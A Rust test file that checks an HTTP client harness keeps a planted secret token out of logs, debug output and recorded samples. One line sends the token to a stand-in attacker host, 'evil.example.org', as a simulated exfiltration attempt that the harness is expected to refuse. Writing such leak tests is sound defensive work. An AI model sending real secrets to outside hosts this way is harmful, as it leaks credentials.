//! Secrets pass through and stay nowhere.

use super::*;
use axum::body::Bytes;
use axum::http::{HeaderMap, Uri};
use std::sync::Mutex;

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("the log").extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn a_secret_is_in_no_log_no_debug_text_and_no_sample() {
    let log = Log::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_ansi(false)
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone());
    let _guard = tracing::subscriber::set_default(subscriber.finish());

    let app = Router::new().fallback(|uri: Uri, headers: HeaderMap, body: Bytes| async move {
        format!("{uri} {headers:?} {}", String::from_utf8_lossy(&body))
    });
    let session = Bench::serving(app).await.session();
    let request = Request::post_form(
        Url::parse(&format!(
            "https://one.example.org/bot123456:AAAA{TOKEN}/send?access_token={TOKEN}"
        ))
        .expect("an address"),
        &[("token", TOKEN)],
    )
    .header("authorization", &format!("Bearer {TOKEN}"));
    let debug = format!("{request:?} {session:?}");
    let answer = session.send(request).await.expect("an answer");
    assert!(
        String::from_utf8_lossy(&answer.body).contains(TOKEN),
        "the adapter gets the body as it came"
    );
    let refused = session
        .send(get(&format!("https://evil.example.org/?token={TOKEN}")))
        .await;
    let sample = session.take_sample().expect("a sample");
    assert_eq!(sample.host, "one.example.org");
    let kept = String::from_utf8_lossy(&sample.body).into_owned();
    let logged = String::from_utf8_lossy(&log.0.lock().expect("the log")).into_owned();
    assert!(
        logged.contains("one.example.org") && logged.contains("http.status=200"),
        "{logged}"
    );
    assert!(logged.contains("undeclared_host"), "{logged}");
    for text in [
        debug,
        format!("{session:?} {answer:?} {sample:?} {refused:?}"),
        kept,
        logged,
    ] {
        assert!(!text.contains("PLANTED") && !text.contains("AAAA"), "{text}");
    }
    assert_eq!(session.take_sample(), None, "a sample is given once");
}
